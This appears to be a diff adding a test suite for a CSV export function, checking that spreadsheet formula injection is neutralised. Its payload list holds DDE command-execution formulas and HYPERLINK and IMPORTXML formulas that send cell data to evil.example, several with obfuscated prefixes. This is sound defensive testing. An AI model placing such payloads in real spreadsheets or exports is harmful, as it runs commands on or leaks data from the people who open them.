@@ -1,0 +1,75 @@
+import { expect, test } from "vitest";
+import { csvCell, csvRow } from "#app/features/admin/csv.ts";
+
+/** What a spreadsheet would run, or take for a command. */
+const PAYLOADS = [
+  "=1+1",
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("https://evil.example?x="&A1,"Open")',
+  '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
+  "+1+1",
+  "+44 20 7946 0123",
+  "-1+1",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  "@example",
+  "\t=1+1",
+  "\r=1+1",
+  "\n=1+1",
+  " =1+1",
+  "\u00a0=1+1",
+  "\ufeff=1+1",
+  "\u200b=1+1",
+  "\uff1d1+1",
+  "\uff0b1+1",
+  "\uff0d1+1",
+  "\uff20SUM(1)",
+  "\u0000=1+1",
+  '=1+1";=2+2',
+  '"=1+1',
+  "=1+1,=2+2\r\n=3+3",
+];
+
+/** A reader of RFC 4180 that shares nothing with the writer. */
+function parse(text: string): string[][] {
+  const rows: string[][] = [];
+  const cell = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/gy;
+  let row: string[] = [];
+  while (cell.lastIndex < text.length) {
+    const [, quoted, plain, end] = cell.exec(text) ?? [];
+    if (end === undefined) throw new Error(`not RFC 4180 at ${cell.lastIndex}`);
+    row.push(quoted?.replaceAll('""', '"') ?? plain ?? "");
+    if (end === ",") continue;
+    rows.push(row);
+    row = [];
+  }
+  return rows;
+}
+
+test("there are 25 payloads", () => {
+  expect(new Set(PAYLOADS).size).toBe(25);
+});
+
+test.each(PAYLOADS)("%j is read back as it was, and no spreadsheet runs it", (payload) => {
+  const [row, ...others] = parse(csvRow(["before", payload, "after"]));
+  expect(others).toEqual([]);
+  const [before, cell = "", after] = row ?? [];
+  expect([before, after]).toEqual(["before", "after"]);
+  expect(cell.replace(/^'/, "")).toBe(payload.replace("\u0000", ""));
+  expect(cell).not.toMatch(/^[\s\u00a0\ufeff\u200b]*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r\n]/u);
+});
+
+test.each(["O'Neill & Sons", "Brontë, Anne", 'The "Best" Ltd', "a=b", "two\r\nlines", "", "日本", "👩‍💻"])(
+  "%j is nothing to be careful about and stays as it is",
+  (text) => {
+    expect(parse(csvRow([text, "after"]))).toEqual([[text, "after"]]);
+  },
+);
+
+test("a number is a number, also below zero", () => {
+  expect(csvCell(-3)).toBe('"-3"');
+});
+
+test("rows end as the standard says", () => {
+  expect(csvRow(["a", "b"]) + csvRow(["c", 1])).toBe('"a","b"\r\n"c","1"\r\n');
+});
